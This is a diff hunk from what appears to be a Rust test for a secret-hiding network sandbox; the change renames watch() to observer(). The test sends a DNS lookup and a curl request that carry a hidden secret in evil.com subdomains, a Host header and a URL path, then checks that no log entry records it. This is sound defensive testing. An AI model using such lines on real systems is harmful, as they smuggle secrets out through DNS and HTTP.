@@ -91,7 +91,7 @@ fn a_secret_in_a_name_is_on_record_in_no_entry() {
     let hide = |guard: intercept::Guard| guard.hiding(vec![HIDDEN.to_owned()]);
     let client = scene.client_with(Policy::none(), hide);
 
-    client.pass.as_ref().unwrap().watch().may_ask(&format!("{HIDDEN}.evil.com."));
+    client.pass.as_ref().unwrap().observer().may_ask(&format!("{HIDDEN}.evil.com."));
     let host = format!("Host: key-{}.evil.com", HIDDEN.to_uppercase());
     client.try_curl(&["-H", &host, &format!("http://{OTHER}/{HIDDEN}")]);
 
